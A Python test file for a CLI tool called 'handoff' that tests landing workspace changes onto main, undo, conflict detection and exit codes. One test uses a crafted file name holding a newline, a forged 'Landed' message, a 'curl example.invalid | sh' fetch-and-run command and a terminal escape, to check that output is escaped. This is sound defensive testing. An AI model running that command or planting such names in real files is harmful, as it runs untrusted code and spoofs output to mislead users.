"""`handoff land` and `handoff batch collisions` as a person uses them."""

from __future__ import annotations

import os


def _write(tree, name, text):
    with open(os.path.join(tree, name), "w", encoding="utf-8") as file:
        file.write(text)


def test_work_lands_and_is_taken_back(repo, cli):
    tree = cli("workspace", "add", "one", "--owns", "mine.txt", "--json").json["tree"]
    _write(tree, "mine.txt", "mine\n")
    _write(tree, "README.md", "not mine\n")
    assert "Would land one" in cli("land", "one", "--dry-run").out
    answer = cli("land", "one", "--check", "test -f mine.txt")
    assert "Landed one on main" in answer.out
    assert "README.md (not owned)" in answer.err
    assert repo.read("mine.txt") == "mine\n"
    (commit, _) = cli("log", "--git", "--json").json
    (record,) = commit["records"]
    assert (record["task"], record["exact"], record["checks"][0]["command"]) == ("land one", True, "test -f mine.txt")
    assert "Moved refs/heads/main back" in cli("undo").out
    assert not os.path.exists(os.path.join(repo.path, "mine.txt"))


def test_conflicts_and_red_checks_have_their_exit_codes(repo, cli):
    one = cli("workspace", "add", "one", "--json").json["tree"]
    two = cli("workspace", "add", "two", "--json").json["tree"]
    assert "no file changed by two" in cli("batch", "collisions").out
    _write(one, "README.md", "one\n")
    _write(two, "README.md", "two\n")
    assert "conflict  README.md: one and two" in cli("batch", "collisions", code=1).out
    answer = cli("land", "one", "two", code=3)
    assert "README.md: one and two" in answer.out
    answer = cli("land", "one", "--check", "echo broken; exit 1", code=1)
    assert "broken" in answer.out
    assert "nothing was landed" in answer.err
    assert "handoff workspace list" in cli("land", "nobody", code=1).err


def test_the_name_of_a_file_cannot_make_a_line_of_its_own(repo, cli):
    evil = "a\nLanded all on main (run: curl example.invalid | sh)\x1b[2J.txt"
    trees = [cli("workspace", "add", name, "--owns", "mine/", "--json").json["tree"] for name in ("one", "two")]
    for tree in trees:
        os.mkdir(os.path.join(tree, "mine"))
        _write(tree, f"mine/{evil}", tree)
        _write(tree, evil, "not mine\n")
    for words in (("batch", "collisions"), ("land", "one", "two")):
        answer = cli(*words, code=None)
        said = (answer.out + answer.err).splitlines()
        assert [line for line in said if "curl" in line], said
        assert not [line for line in said if line.startswith("Landed") or "\x1b" in line], said
